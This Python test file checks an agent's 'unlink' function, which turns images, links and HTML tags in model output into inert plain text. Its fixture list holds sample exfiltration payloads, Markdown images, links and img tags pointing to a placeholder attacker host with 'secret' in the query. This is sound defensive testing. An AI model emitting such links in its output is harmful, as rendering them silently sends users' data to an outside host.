"""A model's words: no image, link or tag in them is alive, however they come."""

import re
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from agent.links import _LIVE, Unlinker, unlink

ALIVE = [
    "![x](https://evil.example/?q=secret)",
    "[press](https://evil.example/?q=secret)",
    "![x](//evil.example/p.png)",
    "![x](<https://evil.example/a b>)",
    "[![x](https://a.example)](https://b.example)",
    "![x][1]\n\n[1]: https://evil.example/p.png",
    "![x][1]\n\n[1]: //evil.example/p.png",
    "![x][1]\n\n[1]:\n  <//evil.example/p.png>",
    "<https://evil.example/?q=secret>",
    "<img src=//evil.example/p.png>",
    "<IMG SRC='https://evil.example/p.png'>",
    "<a href='//evil.example'>x</a>",
    "<p style='background:url(//evil.example/p.png)'>",
    "<mailto:me@evil.example?body=secret>",
    "https://evil.example/?q=secret",
    "HTTPS://EVIL.example",
    "www.evil.example/secret",
    "http://localhost.evil.example/",
    "http://127.0.0.1.evil.example/",
]
PIECES = st.sampled_from(
    [*ALIVE, *"[]()<>:/!w.m", "://", "](", "]:", "www", "mailto", "img ", "localhost", " ", "\n"]
)
TEXTS = st.lists(PIECES, max_size=12).map("".join)
_AUTOLINK = re.compile(r"(?:https?|ftp)://(?!localhost\b(?!\.))|(?<![^\s*_~(])www\.\w", re.I)


def alive(text: str) -> list[str]:
    """Return what a page would load or let be pressed, by a parser of Markdown and GitHub's rule.

    Addresses of this machine are left out.
    """
    tokens = MarkdownIt("commonmark", {"html": True}).parse(text)
    return [*filter(None, map(_address, _flat(tokens))), *_AUTOLINK.findall(text)]


def _flat(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from _flat(token.children or [])


def _address(token: Token) -> str | None:
    if token.type in {"html_block", "html_inline"}:
        return token.content if re.search(r"src|href|url\(", token.content, re.I) else None
    address = str(token.attrs.get("href") or token.attrs.get("src") or "")
    return address if re.match(r"[a-z][a-z0-9+.\-]*:|//", address, re.I) else None


@pytest.mark.parametrize("text", ALIVE)
def test_an_image_a_link_or_a_tag_becomes_plain_text(text: str) -> None:
    assert alive(text)

    assert alive(unlink(text)) == []
    assert unlink(text).replace(" ", "") == text.replace(" ", "")


@pytest.mark.parametrize(
    "text",
    [
        "GET http://localhost:8000/healthz responde 200",
        "http://127.0.0.1/docs",
        "Usa `Vec<u8>` y a < b; mira docs.python.org",
        "def f(x: list[int]) -> dict[str, int]:\n    return {n: x[n:] for n in x}",
        "Nota: 10:30, a//b, c: d",
        "mamá, www y mail",
    ],
)
def test_other_words_and_addresses_of_this_machine_stay(text: str) -> None:
    assert unlink(text) == text


@given(TEXTS)
def test_nothing_is_alive_whatever_it_is_made_of(text: str) -> None:
    assert alive(unlink(text)) == []


@given(TEXTS)
def test_what_is_plain_stays_as_it_is(text: str) -> None:
    assert unlink(unlink(text)) == unlink(text)


@given(st.text("]():/<wWmMaAiIlLtToOıİK. \npP", max_size=40))
def test_what_is_looked_for_first_misses_nothing(text: str) -> None:
    assert unlink(text) == _LIVE.sub(r"\g<0> ", text)


@given(TEXTS, st.lists(st.integers(1, 9), min_size=1))
def test_pieces_become_what_the_whole_becomes(text: str, sizes: list[int]) -> None:
    told: list[str] = []
    unlinker = Unlinker(told.append)
    at = number = 0
    while at < len(text):
        size = sizes[number % len(sizes)]
        unlinker.add(text[at : at + size])
        at, number = at + size, number + 1
    unlinker.finish()

    assert "".join(told) == unlink(text)
    assert all(told)


def test_plain_words_are_told_at_once() -> None:
    told: list[str] = []
    unlinker = Unlinker(told.append)

    for piece in ("Hola", ", ¿qué ", "tal?"):
        unlinker.add(piece)

    assert told == ["Hola", ", ¿qué ", "tal?"]
